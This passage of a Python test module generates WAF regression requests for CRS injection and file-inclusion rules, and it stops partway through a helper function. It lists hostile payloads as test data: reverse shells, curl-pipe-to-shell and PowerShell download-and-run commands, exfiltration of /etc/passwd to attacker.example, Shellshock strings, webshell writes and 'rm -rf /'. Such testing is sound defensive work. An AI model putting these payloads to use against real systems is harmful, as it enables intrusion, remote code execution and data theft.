"""Blind positive regression tests for the CRS 3.3.4 remote-command-execution, local-file-inclusion and
remote-file-inclusion request rules at paranoia levels 1-2, and the titles CRS 4.x added in those families,
written as a ninth rule author writes them from each rule's title alone: the canonical attack the title names,
then one test per member of the title's family (each command, keyword, operator, file, dialect), then the
variants a rule must still catch (quoting, casing, whitespace and comment substitutes, concatenation, URL and
double-URL encoding, overlong UTF-8 and IIS %u forms, HTML entities, \\u escapes in JSON).

Families and sub-families (one sub-family per title):
  lfi: path-traversal-encoded (930100), path-traversal-dot-dot-slash (930110), os-file-access (930120),
       restricted-file-access (930130), os-file-access-in-headers and path-traversal-triple-dot (4.x).
  rfi: rfi-url-ip-address (931100), rfi-vulnerable-param-name (931110), rfi-trailing-question-mark (931120),
       rfi-off-domain-reference (931130).
  rce: unix-command-injection-chained (932100), unix-command-injection-substitution (932105),
       windows-command-injection (932110), windows-command-injection-invocation (932115),
       windows-powershell-command (932120), unix-shell-expression (932130), windows-for-if-command (932140),
       direct-unix-command-execution (932150), unix-shell-code (932160), shellshock-headers (932170),
       shellshock-args (932171), restricted-file-upload (932180), rce-bypass-technique (932200), and the 4.x
       titles unix-command-injection-no-evasion, unix-command-injection-evasion, unix-shell-alias-invocation,
       unix-shell-history-invocation, unix-pipes-short-commands, sqlite-system-command,
       smtp-imap-pop3-command, windows-command-injection-evasion, unix-shell-code-in-headers,
       direct-unix-command-absolute-path.

Placements: every payload is sent twice. Once to our real routes (query of /api/users, the form of
/admin/users/search with its csrf_token, JSON of /api/users, a cookie, User-Agent, Referer, another header, a
parameter name, an XML body, a multipart field or file name, the URL path), once the way a WAF's regression
suite sends it: to paths that are not our routes (/, /index.php, /get, /post, /search, /api/v1/items,
/cgi-bin/test.cgi) under arbitrary parameter names (foo, var, x, test, id, arg1), as a query string, a form
body, a JSON body, an XML body, a raw form-typed body that is not key=value, a header or a cookie (placements
prefixed "rs-"). Titles that name where they look (restricted files: the path; upload names: the file name and
X-File-Name; Shellshock: headers vs. arguments; the header titles: headers; RFI parameter names: the named
parameter) are placed there.

Authorship and independence: written for this repository from general knowledge of each attack family and the
rule titles alone; no WAF rule, engine code, ruleset regression test or public payload list was read. Measured
once through the real stack on unchanged code. Deterministic: no clock, no randomness.
"""

from __future__ import annotations

import json
import urllib.parse
from collections.abc import Iterator
from dataclasses import dataclass
from typing import Any
from xml.sax.saxutils import escape as xml_escape

from .family_gen import UA, _form, _get, _json, _query
from .family_gen_blind_php import chat_and_bio, links_and_prose
from .records import numbered, print_records

NAME = "ninetyfirst"


class Wire(str):
    """A payload already in its URL-encoded wire form: inserted verbatim wherever it goes."""


class JsonEsc(str):
    """A payload written with JSON escapes (\\u002f, \\/): inserted verbatim inside a JSON string, JSON only."""


@dataclass
class Title:
    category: str
    sub: str
    payloads: list[str]
    ours: list[str]
    rs: list[str]
    pairs: bool = False   # payloads are name=value: the parameter name is part of the attack


OURS_ALL = ["query", "form", "json", "cookie", "header:User-Agent", "header:Referer", "header:X-Api-Version",
            "param-name", "xml", "multipart-field", "path"]
OURS_ARGS = ["query", "form", "json", "cookie", "param-name", "xml", "multipart-field", "header:Referer"]
RS_ALL = ["rs-query", "rs-form", "rs-json", "rs-xml", "rs-raw-body", "rs-header:User-Agent", "rs-header:Referer",
          "rs-header:X-Custom", "rs-cookie"]
RS_LFI = ["rs-query", "rs-path", "rs-form", "rs-json", "rs-xml", "rs-raw-body", "rs-header:Referer",
          "rs-cookie", "rs-header:X-Custom", "rs-header:User-Agent"]
HEADERS_OURS = ["header:User-Agent", "header:Referer", "header:X-Api-Version", "header:Cookie"]
HEADERS_RS = ["rs-header:User-Agent", "rs-header:Referer", "rs-header:X-Custom", "rs-header:Cookie"]

W = Wire
J = JsonEsc

TITLES = [
    # ---------------------------------------------------------------- LFI
    Title("lfi", "path-traversal-encoded", [
        W("%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd"),
        W("..%2f..%2f..%2f..%2fetc%2fpasswd"),
        W("%2e%2e/%2e%2e/%2e%2e/etc/hosts"),
        W("..%5c..%5c..%5cwindows%5cwin.ini"),
        W("%2E%2E%5C%2E%2E%5Cinetpub%5Cwwwroot%5Cweb.config"),
        W("%252e%252e%252f%252e%252e%252fetc%252fpasswd"),
        W("..%252f..%252f..%252fboot.ini"),
        W("..%255c..%255c..%255cwindows%255csystem.ini"),
        W("%c0%ae%c0%ae%c0%af%c0%ae%c0%ae%c0%afetc%c0%afpasswd"),
        W("..%c0%af..%c0%af..%c0%afetc%c0%afshadow"),
        W("..%c1%9c..%c1%9cwinnt%c1%9csystem32%c1%9ccmd.exe"),
        W("%u002e%u002e%u2215%u002e%u002e%u2215etc%u2215passwd"),
        W("..%u2216..%u2216windows%u2216win.ini"),
        W("%2e%2e%2fWEB-INF%2fweb.xml"),
        "&#46;&#46;&#47;&#46;&#46;&#47;etc&#47;passwd",
        J("\\u002e\\u002e\\u002f\\u002e\\u002e\\u002fetc\\u002fpasswd"),
    ], OURS_ALL, RS_LFI),
    Title("lfi", "path-traversal-dot-dot-slash", [
        "../../../../etc/passwd",
        "..\\..\\..\\..\\windows\\win.ini",
        "/var/www/html/../../../etc/shadow",
        "....//....//....//etc/passwd",
        "..././..././..././etc/hosts",
        W("../../../../etc/passwd%00.jpg"),
        "..//..//..//etc//group",
        "images/../../../../../proc/version",
        "C:\\inetpub\\wwwroot\\..\\..\\windows\\system32\\drivers\\etc\\hosts",
        "..\\/..\\/..\\/etc/passwd",
        "../../WEB-INF/web.xml",
        ".././.././.././etc/issue",
        "/..;/..;/manager/html",
        "templates/../../../../usr/local/etc/php/php.ini",
        "../../../../../../home/app/.ssh/authorized_keys",
    ], OURS_ALL, RS_LFI),
    Title("lfi", "os-file-access", [
        "/etc/passwd",
        "/etc/shadow",
        "etc/group",
        "/proc/self/environ",
        "/proc/self/cmdline",
        "c:\\windows\\win.ini",
        "C:/boot.ini",
        "c:\\windows\\system32\\config\\sam",
        "/root/.bash_history",
        "/home/deploy/.ssh/id_rsa",
        "/var/log/apache2/access.log",
        "/etc/./shadow",
        "/ETC/PASSWD",
        W("%2fetc%2fpasswd"),
        "file:///etc/passwd",
        "/windows/system32/inetsrv/config/applicationHost.config",
    ], OURS_ALL, RS_LFI),
    Title("lfi", "restricted-file-access", [
        "/.env",
        "/.git/config",
        "/.git/HEAD",
        "/.svn/entries",
        "/.htaccess",
        "/.htpasswd",
        "/web.config",
        "/.DS_Store",
        "/.aws/credentials",
        "/.bash_history",
        "/.idea/workspace.xml",
        "/.vscode/sftp.json",
        "/.hg/hgrc",
        "/WEB-INF/web.xml",
        "/.env.production",
        W("/%2eenv"),
        W("/.%67it/config"),
        "/.GIT/config",
    ], ["path"], ["rs-path"]),
    Title("lfi", "os-file-access-in-headers", [
        "/etc/passwd",
        "../../../../etc/shadow",
        "/proc/self/environ",
        "c:\\windows\\win.ini",
        "/etc/hosts",
        "/var/log/nginx/access.log",
        "/root/.ssh/id_rsa",
        "file:///etc/passwd",
        "/etc/group",
        "/boot.ini",
        "/proc/version",
        W("/etc/passwd%00"),
        "/etc/./passwd",
        "https://www.example.com/download?file=/etc/passwd",
    ], ["header:Referer", "header:User-Agent", "header:X-Api-Version", "cookie"],
        ["rs-header:Referer", "rs-header:User-Agent", "rs-header:X-Original-URL", "rs-cookie", "rs-header:X-Custom"]),
    Title("lfi", "path-traversal-triple-dot", [
        ".../.../.../etc/passwd",
        "/.../.../.../etc/passwd",
        "...\\...\\...\\windows\\win.ini",
        ".../...//etc/shadow",
        W(".%2e./.%2e./etc/passwd"),
        W("%2e%2e%2e/%2e%2e%2e/etc/passwd"),
        "..../..../..../etc/passwd",
        "file/.../.../.../boot.ini",
        "....\\....\\windows\\win.ini",
        ".../..../etc/hosts",
        W("%2e%2e%2e%2f%2e%2e%2e%2fetc%2fpasswd"),
        W("...%252f...%252fetc%252fpasswd"),
        "img/.../.../.../.../proc/self/environ",
        ".../.../.../.../var/www/.env",
    ], OURS_ALL, RS_LFI),
    # ---------------------------------------------------------------- RFI
    Title("rfi", "rfi-url-ip-address", [
        "http://203.0.113.7/shell.txt",
        "https://198.51.100.23/r57.php",
        "ftp://192.0.2.44/pub/c99.txt",
        "http://203.0.113.7:8080/inc/config.inc.php",
        "HTTP://198.51.100.23/x.txt",
        "http://[2001:db8::1]/shell.txt",
        "ftps://192.0.2.44/a.php",
        "http://user:pw@198.51.100.23/x.txt",
        "\\\\203.0.113.7\\share\\shell.php",
        "http://3405803783/x.txt",
        "https://203.0.113.7/wp-content/uploads/bd.php",
        W("http%3A%2F%2F203.0.113.7%2Fshell.txt"),
        W("http%253A%252F%252F198.51.100.23%252Fx.txt"),
        "file://192.0.2.44/share/x.php",
        J("http:\\/\\/203.0.113.7\\/shell.txt"),
    ], OURS_ARGS, RS_ALL),
    Title("rfi", "rfi-vulnerable-param-name", [
        "mosConfig_absolute_path=http://attacker.example/shell.txt",
        "_CONF[path]=http://attacker.example/x.txt",
        "_SERVER[DOCUMENT_ROOT]=http://attacker.example/r57.txt",
        "GALLERY_BASEDIR=http://attacker.example/c99.txt",
        "path[docroot]=http://attacker.example/x.txt",
        "appserv_root=https://attacker.example/x.txt",
        "config[root_dir]=ftp://attacker.example/x.txt",
        "phpbb_root_path=http://attacker.example/x.txt",
        "inc=include('http://attacker.example/x.txt')",
        "page=http://attacker.example/shell.txt",
        "include=ftps://attacker.example/x.txt",
        "template=https://attacker.example/t.txt",
        "_PHPLIB[libdir]=http://attacker.example/x.txt",
        "pm_path=http://attacker.example/x.txt",
        "DOCUMENT_ROOT=http://attacker.example/x.txt",
    ], ["query", "form", "json"], ["rs-query", "rs-form", "rs-json", "rs-raw-body"], pairs=True),
    Title("rfi", "rfi-trailing-question-mark", [
        "http://attacker.example/shell.txt?",
        "https://attacker.example/c99.php?",
        "ftp://attacker.example/r57.txt?",
        "http://attacker.example/x.txt??",
        "HTTPS://Attacker.Example/s.txt?",
        "http://attacker.example/kit/shell.jpg?",
        "http://198.51.100.23/x.txt?",
        W("http%3a%2f%2fattacker.example%2fshell.txt%3f"),
        W("http%253A%252F%252Fattacker.example%252Fshell.txt%253F"),
        "//attacker.example/shell.txt?",
        "http://attacker.example:8000/shell.txt?",
        W("http://attacker.example/shell.txt?%00"),
        J("http:\\u002f\\u002fattacker.example\\u002fshell.txt\\u003f"),
        "ftps://attacker.example/in.txt?",
    ], OURS_ARGS, RS_ALL),
    Title("rfi", "rfi-off-domain-reference", [
        "http://attacker.example/payload.txt",
        "https://evil.example.net/backdoor.php",
        "ftp://files.attacker.example/pub/shell.txt",
        "ftps://attacker.example/x.php",
        "https://pastebin.com/raw/XyZ123ab",
        "https://raw.githubusercontent.com/attacker/kit/main/shell.php",
        "http://attacker.example:8080/x",
        "HtTp://ATTACKER.example/shell.txt",
        "https://attacker.example/shell.txt#",
        W("http://attacker.example/shell.txt%00"),
        "https://transfer.sh/abc/shell.php",
        "http://attacker.example/inc.php?cmd=id",
        W("https%3A%2F%2Fattacker.example%2Fsh.php"),
        J("https:\\/\\/attacker.example\\/x.php"),
    ], OURS_ARGS, RS_ALL),
    # ---------------------------------------------------------------- RCE, CRS 3.3.4 titles
    Title("rce", "unix-command-injection-chained", [
        ";cat /etc/passwd",
        "| id",
        "&& whoami",
        "|| uname -a",
        "; ls -la /",
        "127.0.0.1; nc 203.0.113.5 4444 -e /bin/sh",
        "x | curl http://attacker.example/s.sh | sh",
        "foo & wget http://attacker.example/x -O /tmp/x",
        "; ping -c 4 203.0.113.5",
        ";chmod 777 /tmp/x",
        "a;rm -rf /tmp/*",
        "; perl -e 'print 1'",
        "| tail -n 5 /var/log/auth.log",
        W("%3Bcat%20%2Fetc%2Fpasswd"),
        W("%257Cid"),
        J("\\u003b id"),
    ], OURS_ALL, RS_ALL),
    Title("rce", "unix-command-injection-substitution", [
        W("%0acat%20/etc/passwd"),
        W("%0Aid"),
        W("foo%0d%0auname%20-a"),
        "`whoami`",
        "$(id)",
        "$(cat /etc/passwd)",
        "`curl attacker.example/x|sh`",
        "$( wget -q -O- http://attacker.example/a )",
        "x`ping -c1 attacker.example`",
        "a'$(id)'",
        "\"; id; echo \"",
        "';nslookup attacker.example;'",
        "| base64 -d <<< aWQ= | sh",
        W("1%0asleep%205"),
    ], OURS_ALL, RS_ALL),
    Title("rce", "windows-command-injection", [
        "& dir c:\\",
        "| type C:\\Windows\\win.ini",
        "&& net user",
        "|| whoami /all",
        "& ipconfig /all",
        "& net localgroup administrators",
        "| systeminfo",
        "& tasklist /v",
        "&& certutil -urlcache -split -f http://attacker.example/x.exe x.exe",
        "| reg query HKLM\\Software\\Microsoft",
        "& cmd /c ver",
        "& ping -n 5 203.0.113.5",
        "| nslookup attacker.example",
        "& bitsadmin /transfer j http://attacker.example/x.exe c:\\x.exe",
        "&& wmic process list brief",
        W("%26%20net%20view"),
    ], OURS_ALL, RS_ALL),
    Title("rce", "windows-command-injection-invocation", [
        "c^m^d /c whoami",
        "& cmd.exe /c \"dir\"",
        "&c:\\windows\\system32\\cmd.exe /k ver",
        "%COMSPEC% /c net user",
        "& w\"h\"o\"a\"mi",
        "| n^e^t u^s^e^r",
        "& %SystemRoot%\\system32\\calc.exe",
        "& start /b nc.exe 203.0.113.5 4444 -e cmd.exe",
        "& copy \\\\attacker.example\\s\\x.exe %TEMP%\\x.exe",
        "&& mshta http://attacker.example/x.hta",
        "| regsvr32 /s /n /u /i:http://attacker.example/x.sct scrobj.dll",
        "& forfiles /p c:\\windows\\system32 /m notepad.exe /c calc.exe",
        "& cmd ,/c, whoami",
        "& rundll32 shell32.dll,ShellExec_RunDLL cmd.exe",
    ], OURS_ALL, RS_ALL),
    Title("rce", "windows-powershell-command", [
        "powershell -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://attacker.example/a.ps1')\"",
        "powershell.exe -EncodedCommand SQBFAFgAIAAoAGkAdwByACkA",
        "pwsh -c Get-Process",
        "; Invoke-Expression (Invoke-WebRequest http://attacker.example/x).Content",
        "iex(iwr -useb attacker.example/x)",
        "& Start-Process calc.exe",
        "Get-ChildItem C:\\Users -Recurse -Include *.kdbx",
        "Invoke-WebRequest -Uri http://attacker.example/x -OutFile x.exe",
        "Set-MpPreference -DisableRealtimeMonitoring $true",
        "| powershell -ExecutionPolicy Bypass -File \\\\attacker.example\\s\\x.ps1",
        "[System.Net.WebClient]::new().DownloadFile('http://attacker.example/x','x.exe')",
        "Get-Content C:\\Windows\\win.ini",
        "POWERSHELL -E JABjAD0A",
        "Invoke-Command -ScriptBlock {whoami}",
        "New-Object System.Net.Sockets.TCPClient('203.0.113.5',4444)",
        "PoWeRsHeLl.ExE -NoProfile -c whoami",
    ], OURS_ALL, RS_ALL),
    Title("rce", "unix-shell-expression", [
        "$(id)",
        "$( whoami )",
        "`uname -a`",
        "${PATH}",
        "${HOME:0:1}etc${HOME:0:1}passwd",
        "$((7*7))",
        "<(id)",
        ">(sh)",
        "$(</etc/passwd)",
        "${IFS}",
        "$[1+1]",
        "${!BASH*}",
        "echo ${SHELL}",
        "$'\\x69\\x64'",
        J("\\u0024(id)"),
    ], OURS_ALL, RS_ALL),
    Title("rce", "windows-for-if-command", [
        "for /f %i in ('whoami') do @echo %i",
        "FOR /L %i IN (1,1,5) DO ping -n 1 203.0.113.5",
        "for /r c:\\ %f in (*.config) do type %f",
        "for /d %d in (c:\\users\\*) do dir %d",
        "& for /f \"tokens=*\" %a in ('dir /b') do echo %a",
        "if exist c:\\windows\\win.ini type c:\\windows\\win.ini",
        "IF DEFINED COMSPEC echo yes",
        "if not exist c:\\x.exe certutil -urlcache -f http://attacker.example/x.exe c:\\x.exe",
        "if errorlevel 1 net user",
        "if /i \"%USERNAME%\"==\"admin\" net user",
        "for %x in (a b) do cmd /c echo %x",
        "FoR /F %G In ('ver') Do echo %G",
        "&&for /f \"delims=\" %x in ('hostname') do nslookup %x.attacker.example",
        "if exist %SystemRoot% (dir)",
    ], OURS_ALL, RS_ALL),
    Title("rce", "direct-unix-command-execution", [
        "cat /etc/passwd",
        "whoami",
        "ls -la /var/www",
        "uname -a",
        "wget http://attacker.example/x.sh -O /tmp/x.sh",
        "curl -s http://attacker.example/x | bash",
        "nc -e /bin/sh 203.0.113.5 4444",
        "bash -c 'id'",
        "python -c 'import pty;pty.spawn(\"/bin/sh\")'",
        "perl -e 'exec \"/bin/sh\"'",
        "  ping -c 3 203.0.113.5",
        "ps aux",
        "rm -rf /",
        "ifconfig -a",
        "id;",
    ], OURS_ALL, RS_ALL),
    Title("rce", "unix-shell-code", [
        "/bin/sh",
        "/bin/bash -c id",
        "/usr/bin/perl",
        "/usr/bin/python3 -c 'print(1)'",
        "bin/zsh",
        "/usr/local/bin/nc -l 4444",
        "/sbin/ifconfig",
        "/usr/bin/wget",
        "/bin/busybox telnetd -l /bin/sh",
        "/bin//sh",
        "/bin/./bash",
        "/usr/bin/env sh",
        "/bin/dash -i",
        "/usr/bin/nohup /tmp/x &",
        W("%2fbin%2fsh"),
    ], OURS_ALL, RS_ALL),
    Title("rce", "shellshock-headers", [
        "() { :; }; /bin/bash -c 'id'",
        "() { :;}; echo; /bin/cat /etc/passwd",
        "() { _; } >_[$($())] { id; }",
        "() { ignored; }; /usr/bin/wget http://attacker.example/x -O /tmp/x",
        "() {:;}; /bin/sh -c 'nc 203.0.113.5 4444 -e /bin/sh'",
        "() { :; }; ping -c 1 attacker.example",
        "(){ :; }; curl attacker.example",
        "() {   :; };echo vulnerable",
        "() { x() { _; }; x() { _; } <<a; }",
        "() { (a)=>\\",
        "() { :; }; /bin/bash -i >& /dev/tcp/203.0.113.5/4444 0>&1",
        "() { 0; }; sleep 5",
        "() { :; }; /usr/bin/id",
    ], HEADERS_OURS, HEADERS_RS),
    Title("rce", "shellshock-args", [
        "() { :; }; /bin/cat /etc/shadow",
        "() { :;}; /usr/bin/id",
        "() { _; } >_[$($())] { whoami; }",
        "(){:;};/bin/ls",
        "() { foo;}; echo Content-Type: text/plain; echo; id",
        W("%28%29%20%7B%20%3A%3B%20%7D%3B%20%2Fbin%2Fid"),
        "() { :; }; curl -d @/etc/passwd attacker.example",
        "() {  :;  }; /bin/sleep 10",
        "() { :; }; wget -O- attacker.example/s|sh",
        "() { a;}; /usr/bin/nslookup attacker.example",
        J("() { :; }; \\/bin\\/id"),
        "() { :; }; echo pwned > /tmp/x",
    ], ["query", "form", "json", "param-name", "multipart-field", "xml"],
        ["rs-query", "rs-form", "rs-json", "rs-raw-body", "rs-xml"]),
    Title("rce", "restricted-file-upload", [
        ".htaccess",
        ".htpasswd",
        ".htdigest",
        "web.config",
        ".user.ini",
        "wp-config.php",
        "config.yml",
        "parameters.yml",
        "settings.php",
        "local.xml",
        ".env",
        "services.yml",
        "default.settings.php",
        "security.yml",
        "WEB.CONFIG",
        "routing.yml",
    ], ["multipart-filename", "header:X-File-Name"], ["rs-multipart-filename", "rs-header:X-Filename"]),
    Title("rce", "rce-bypass-technique", [
        "c''at /etc/passwd",
        "w\"h\"o\"am\"i",
        "c\\at /et\\c/pas\\swd",
        ";cat$IFS/etc/passwd",
        "cat${IFS}/etc/passwd",
        "/???/??t /???/??ss??",
        "/b[i]n/c[a]t /e[t]c/p[a]sswd",
        "{cat,/etc/passwd}",
        "who$@ami",
        "c$()at /etc/passwd",
        "who``ami",
        ";cat /e?c/p*d",
        "/usr/bin/wh?ami",
        "ca$*t /etc/shadow",
        "c'a't</etc/passwd",
    ], OURS_ALL, RS_ALL),
    # ---------------------------------------------------------------- RCE, titles CRS 4.x added
    Title("rce", "unix-command-injection-no-evasion", [
        ";env",
        "|printenv",
        "&& hostname",
        "; getent passwd",
        "| awk 'BEGIN{system(\"id\")}'",
        "; find / -perm -4000 -type f",
        "; tar cf /tmp/x.tar /etc",
        "; openssl s_client -connect attacker.example:443",
        "|socat tcp:attacker.example:4444 exec:sh",
        "; php -r 'system(\"id\");'",
        "; ruby -e 'exec \"id\"'",
        "; sudo -l",
        "; crontab -l",
        "|| netstat -antp",
        "; node -e 'require(\"child_process\").exec(\"id\")'",
    ], OURS_ALL, RS_ALL),
    Title("rce", "unix-command-injection-evasion", [
        "; c\\a\\t /etc/passwd",
        "|w'h'o'a'm'i",
        "&&i\"\"d",
        ";$'\\x63\\x61\\x74' /etc/passwd",
        ";ca${x}t /etc/passwd",
        ";/bin/c?t /etc/passwd",
        "|/???/?s",
        ";{id,}",
        ";who$()ami",
        ";un$@ame -a",
        "| \\u\\n\\a\\m\\e -a",
        W("%3B%09id"),
        ";cu''rl attacker.example|s''h",
        "a;X=$'cat\\x20/etc/passwd'&&$X",
        ";$(printf '\\151\\144')",
    ], OURS_ALL, RS_ALL),
    Title("rce", "unix-shell-alias-invocation", [
        "; alias ls='rm -rf /'",
        "alias x=id;x",
        "| alias",
        "&& alias ll='curl attacker.example|sh'",
        "; unalias -a",
        "`alias -p`",
        "$(alias)",
        "; alias sudo='/tmp/.x/sudo'",
        "; builtin alias cat=id",
        "; \\alias",
        "alias -- -x='id'; -x",
        "a;alias${IFS}x=id",
        "; alias grep='nc attacker.example 80 <'",
    ], OURS_ALL, RS_ALL),
    Title("rce", "unix-shell-history-invocation", [
        ";!-1",
        "|!!",
        "$(!-2)",
        "&& !cat",
        "; !$",
        "; !?passwd?",
        "; !*",
        "`!-1`",
        "; !#",
        "; !:0",
        "; fc -s",
        "; history | tail",
        "; !-1:s/x/y/",
        "; ^foo^bar",
    ], OURS_ALL, RS_ALL),
    Title("rce", "unix-pipes-short-commands", [
        "|id",
        "| w",
        "|ls",
        "|ps",
        "| df -h",
        "|du -sh /",
        "|nl /etc/passwd",
        "|od -c /etc/shadow",
        "|dd if=/etc/passwd",
        "|su",
        "|sh",
        "|vi /etc/passwd",
        "| at now",
        "|tac /etc/passwd",
        "|nc 203.0.113.5 80",
        "|ip a",
    ], OURS_ALL, RS_ALL),
    Title("rce", "sqlite-system-command", [
        ".shell id",
        ".system whoami",
        ".shell cat /etc/passwd",
        W("%0a.shell%20id"),
        W("x%0a.system%20curl%20attacker.example"),
        ".import '|id' t",
        ".output |nc attacker.example 4444",
        ".once |sh",
        ".read '|curl attacker.example'",
        "1'; ATTACH DATABASE '/var/www/html/x.php' AS x; CREATE TABLE x.p (d text); "
        "INSERT INTO x.p VALUES ('<?php system($_GET[0]); ?>');--",
        "SELECT load_extension('/tmp/evil.so')",
        "x' AND load_extension('\\\\attacker.example\\s\\x.dll')--",
        "SELECT writefile('/var/www/html/s.php', '<?php system($_GET[c]); ?>')",
        "SELECT edit('x', 'sh -c id')",
        ".SHELL ls -la",
    ], OURS_ALL, RS_ALL),
    Title("rce", "smtp-imap-pop3-command", [
        W("%0d%0aRCPT%20TO:%3Cvictim@attacker.example%3E"),
        W("x%0d%0aMAIL%20FROM:%3Croot@localhost%3E"),
        W("%0d%0aDATA%0d%0aSubject:%20x%0d%0a.%0d%0a"),
        W("%0D%0AHELO%20attacker.example"),
        "RCPT TO:<victim@attacker.example>",
        "MAIL FROM: <root@localhost>",
        "VRFY root",
        "EXPN admins",
        "A01 LOGIN admin hunter2",
        W("inbox%0d%0aA02%20SELECT%20INBOX"),
        "a1 UID FETCH 1:* (RFC822)",
        "A3 LIST \"\" *",
        W("%0d%0aUSER%20admin%0d%0aPASS%20x"),
        W("x%0d%0aRETR%201"),
        "TOP 1 10",
    ], OURS_ALL, RS_ALL),
    Title("rce", "windows-command-injection-evasion", [
        "& c^m^d /c who^ami",
        "&& p^o^w^e^r^s^h^e^l^l -c id",
        "|whoami.exe",
        "& \"c:\\windows\\system32\\cmd.exe\" /c dir",
        "&c:\\windows\\system32\\whoami",
        "& set x=who&& call %x%ami",
        "& cmd /v /c \"set x=calc&&!x!\"",
        "& %ComSpec:~-7,3% /c ver",
        "& p\"ow\"ershell -c whoami",
        "& cmd;/c;ver",
        "& ((whoami))",
        "&& n^et us^er adm^in P@ss1 /add",
        "& C:\\Windows\\SysWOW64\\WindowsPowerShell\\v1.0\\powershell.exe -c id",
        "| wh^oami /pr^iv",
        "&& cmd /c \"wh\"\"oami\"",
    ], OURS_ALL, RS_ALL),
    Title("rce", "unix-shell-code-in-headers", [
        "/bin/bash -c 'curl attacker.example'",
        "Mozilla/5.0 /bin/sh -i",
        "/usr/bin/wget http://attacker.example/x -O /tmp/x",
        "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1",
        "/usr/bin/python -c 'import os;os.system(\"id\")'",
        "nc -e /bin/sh 203.0.113.5 4444",
        "/bin/busybox wget attacker.example/x",
        "https://www.example.com/;/usr/bin/id",
        "Mozilla/5.0 `/bin/id`",
        "$(/bin/cat /etc/passwd)",
        "/usr/bin/perl -e 'print 1'",
        "curl/7.88.1 | /bin/sh",
        "/bin/zsh",
        "/usr/bin/ncat --exec /bin/bash 203.0.113.5 80",
    ], ["header:User-Agent", "header:Referer", "header:X-Api-Version"],
        ["rs-header:User-Agent", "rs-header:Referer", "rs-header:X-Custom"]),
    Title("rce", "direct-unix-command-absolute-path", [
        "/bin/cat /etc/passwd",
        "/usr/bin/id",
        "/bin/ls -la /",
        "/usr/bin/whoami",
        "/b?n/c?t /e?c/p?sswd",
        "/bin/c* /etc/pa*",
        "/usr/bin/nc.traditional -e /bin/sh 203.0.113.5 4444",
        "/usr/bin/curl -o /tmp/x http://attacker.example/x",
        "/sbin/reboot",
        "/usr/sbin/useradd -o -u 0 x",
        "/???/???/wh?am?",
        "/usr//bin//id",
        "/bin/../bin/id",
        "  /bin/uname -a",
    ], OURS_ALL, RS_ALL),
]

OUR_NAMES = {"lfi": ["file", "path", "template", "page", "doc", "lang"],
             "rfi": ["url", "page", "file", "src", "include", "path"],
             "rce": ["host", "ip", "q", "cmd", "name", "domain"]}
RS_NAMES = ["foo", "var", "x", "test", "id", "arg1"]
RS_PATHS = ["/", "/index.php", "/get", "/post", "/search", "/api/v1/items", "/cgi-bin/test.cgi"]
RS_PATH_BASES = ["/static/", "/images/", "/cgi-bin/", "/download/", "/"]
OUR_PATH_BASES = ["/api", "/admin"]
BOUNDARY = "----WebKitFormBoundary7MA4YWxkTrZu0gW"
RS_UA = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0 Safari/537.36"


def _url(p: str) -> str:
    """A value in a URL or form body: its wire form as given, else percent-encoded."""
    return p if isinstance(p, Wire) else urllib.parse.quote(p, safe="")


def _path(p: str) -> str:
    return p if isinstance(p, Wire) else urllib.parse.quote(p, safe="/")


def _cookie_value(p: str) -> str:
    return p if isinstance(p, Wire) else p.replace(";", "%3B")


def _xml(p: str) -> str:
    return xml_escape(p)


def _json_body(fields: list[tuple[str, str]]) -> str:
    """A JSON object; JsonEsc values verbatim inside their quotes, the rest as json.dumps writes them."""
    parts = []
    for k, v in fields:
        val = f'"{v}"' if isinstance(v, JsonEsc) else json.dumps(v, ensure_ascii=False)
        parts.append(f"{json.dumps(k)}: {val}")
    return "{" + ", ".join(parts) + "}"


def _multipart(uri: str, fields: list[tuple[str, str]], file: tuple[str, str] | None = None,
               ua: str = UA) -> dict[str, Any]:
    lines: list[str] = []
    for k, v in fields:
        lines += [f"--{BOUNDARY}", f'Content-Disposition: form-data; name="{k}"', "", v]
    if file is not None:
        fname, content = file
        lines += [f"--{BOUNDARY}", f'Content-Disposition: form-data; name="file"; filename="{fname}"',
                  "Content-Type: application/octet-stream", "", content]
    lines += [f"--{BOUNDARY}--", ""]
    return {"method": "POST", "uri": uri, "body": "\r\n".join(lines),
            "headers": {"User-Agent": ua, "Accept": "text/html",
                        "Content-Type": f"multipart/form-data; boundary={BOUNDARY}"}}


def _with_headers(rec: dict[str, Any], extra: dict[str, str]) -> dict[str, Any]:
    return {**rec, "headers": {**rec["headers"], **extra}}


def _filename(p: str) -> str:
    return p.replace('"', "%22")


def _ours(place: str, name: str, p: str, k: int) -> dict[str, Any]:
    """The payload at one of our routes' input places."""
    base = _get("/api/users?page=1")
    if place == "query":
        return _get(f"/api/users?{name}={_url(p)}&page=1")
    if place == "form":
        return {**_form("/admin/users/search", []), "body": f"csrf_token=t0k3n&{name}={_url(p)}"}
    if place == "json":
        return {**_json("/api/users", {}), "body": _json_body([("email", "a@example.org"), (name, p)])}
    if place == "cookie":
        return _with_headers(base, {"Cookie": f"session=abc123; {name}={_cookie_value(p)}"})
    if place.startswith("header:"):
        header = place.split(":", 1)[1]
        return _with_headers(base, {header: str(p)})
    if place == "param-name":
        return _get(f"/api/users?{_url(p)}=1&page=1")
    if place == "xml":
        body = ('<?xml version="1.0" encoding="UTF-8"?><user><email>a@example.org</email>'
                f"<{name}>{_xml(p)}</{name}></user>")
        return {"method": "POST", "uri": "/api/users", "body": body,
                "headers": {"User-Agent": UA, "Accept": "application/xml", "Content-Type": "application/xml"}}
    if place == "multipart-field":
        return _multipart("/admin/users/search", [("csrf_token", "t0k3n"), (name, p)])
    if place == "multipart-filename":
        return _multipart("/admin/users/import", [("csrf_token", "t0k3n")], (_filename(p), "test\n"))
    if place == "path":
        if p.startswith("/") or (isinstance(p, Wire) and p.startswith("/")):
            return _get(OUR_PATH_BASES[k % len(OUR_PATH_BASES)] + _path(p))
        return _get("/api/users/" + _path(p))
    raise ValueError(place)


def _rs(place: str, name: str, p: str, k: int) -> dict[str, Any]:
    """The payload the way a WAF regression suite sends it: paths that are not our routes."""
    path = RS_PATHS[k % len(RS_PATHS)]
    headers = {"User-Agent": RS_UA, "Accept": "*/*"}
    if place == "rs-query":
        return {"method": "GET", "uri": f"{path}?{name}={_url(p)}", "body": "", "headers": headers}
    if place == "rs-form":
        return {"method": "POST", "uri": path, "body": f"{name}={_url(p)}",
                "headers": {**headers, "Content-Type": "application/x-www-form-urlencoded"}}
    if place == "rs-json":
